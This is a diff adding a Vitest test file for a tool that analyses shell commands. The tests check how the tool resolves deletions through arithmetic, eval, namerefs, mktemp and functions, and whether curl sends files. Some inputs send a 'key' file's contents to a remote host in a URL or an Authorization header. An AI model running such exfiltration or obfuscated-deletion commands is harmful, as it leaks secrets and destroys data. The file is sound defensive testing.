@@ -1,0 +1,83 @@
+import { describe, expect, it } from "vitest";
+import { contextOf, effectLines, programOf, understandCommand } from "./testing.ts";
+
+const PROGRAM = programOf(`
+  type remote-path { "{user}@{host:host}:{file}" }
+  command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
+  command cat { flags { ... } operands { paths: path* } copy paths, stdin to stdout }
+  command echo, mktemp { flags { ... } operands { words: word* } }
+  command curl { flags { -H=word* -o=path } operands { urls: url* } copy urls to stdout }
+  command tool { flags { } operands { words: word* } write "~/.tool/config" }
+`);
+
+function effects(command: string): readonly string[] {
+  return effectLines(understandCommand(PROGRAM, command));
+}
+
+function deletes(command: string): readonly string[] {
+  return effects(command).filter((line) => line.startsWith("delete"));
+}
+
+describe("what the shell computes", () => {
+  it.each([
+    ["rm a$((1 + 2 * 3))", "delete /work/app/a7"],
+    ["x=3; rm a$((x > 2 ? x << 1 : 0))", "delete /work/app/a6"],
+    ["((n = 2)); ((n++)); rm a$n", "delete /work/app/a3"],
+    ["rm a$((16#1f)) b", "delete /work/app/a31"],
+    ["X=/b; declare -n r=X; rm $r", "delete /b"],
+    ["declare -n r=X; r=/b; rm $X", "delete /b"],
+    ['X=/b; eval "rm ${X@Q}"', "delete /b"],
+    ["X=ab; rm ${X@U}", "delete /work/app/AB"],
+    ["readonly D=/b; rm $D", "delete /b"],
+    ["mapfile -t a <<< /b; rm ${a[0]}", "delete /b"],
+    ['a=(-r /b); rm "${a[@]}"', "delete /b tree recursive"],
+  ])("%s has the effect %s", (command, line) => expect(deletes(command)).toContain(line));
+
+  it.each(["rm a$((y + 1))", "rm a$((1 / 0))", "for ((i = 0; i < 9; i++)); do rm a$i; done", "rm a$((RANDOM))"])(
+    "%s is not known",
+    (command) => expect(deletes(command)[0]).toBe("delete /work/app/a‹any›"),
+  );
+});
+
+describe("names that mktemp makes", () => {
+  it.each([
+    ['D=$(mktemp -d) && rm -r "$D"', "delete /tmp/tmp.‹*› tree recursive"],
+    ["D=$(mktemp -d -t x); rm -r $D", "delete /tmp/x.‹*› tree recursive"],
+    ["D=$(mktemp -p out a.XXXXXX.log); rm $D", "delete /work/app/out/a.‹*›.log"],
+    ["D=`mktemp /tmp/a.XXXX`; rm $D", "delete /tmp/a.‹*›"],
+    ["D=$(mktemp -d); rm -r $D/sub", "delete /tmp/tmp.‹*›/sub tree recursive"],
+  ])("%s has the effect %s", (command, line) => expect(deletes(command)).toContain(line));
+
+  it("are names of what the script made", () => {
+    const created = (command: string) =>
+      understandCommand(PROGRAM, command)
+        .effects.filter(({ verb }) => verb === "delete")
+        .map(({ fields }) => fields.created);
+    expect(created("D=$(mktemp); rm $D")).toEqual([{ kind: "truth", value: true }]);
+    expect(created("D=$(mktemp -u); rm $D")).toEqual([{ kind: "truth", value: false }]);
+  });
+});
+
+describe("functions", () => {
+  it("of a subshell end with it", () => {
+    expect(deletes("( f() { rm x; } ); f")).toEqual([]);
+    expect(deletes("( f() { rm x; }; f )")).toEqual(["delete /work/app/x"]);
+  });
+  it("take the place of one of the same name", () => {
+    expect(deletes("f() { rm x; }; f() { rm y; }; f")).toEqual(["delete /work/app/y"]);
+    expect(deletes("if a; then f() { rm x; }; else f() { rm y; }; fi; f")).toEqual(["delete /work/app/y", "delete /work/app/x"]);
+  });
+});
+
+describe("what is asked of another machine", () => {
+  it.each(['curl "https://h/?k=$(cat key)"', 'curl -H "Authorization: $(cat key)" https://h'])("%s sends the file", (command) =>
+    expect(effects(command)).toContain("send h sources=[/work/app/key]"),
+  );
+  it("sends nothing where the question is known", () => {
+    expect(effects("curl https://h/?q=1")).toEqual(["fetch h"]);
+  });
+});
+
+it("a tilde in a signature is the home", () => {
+  expect(effectLines(understandCommand(PROGRAM, "tool", contextOf({ home: "/home/x" })))).toEqual(["write /home/x/.tool/config"]);
+});
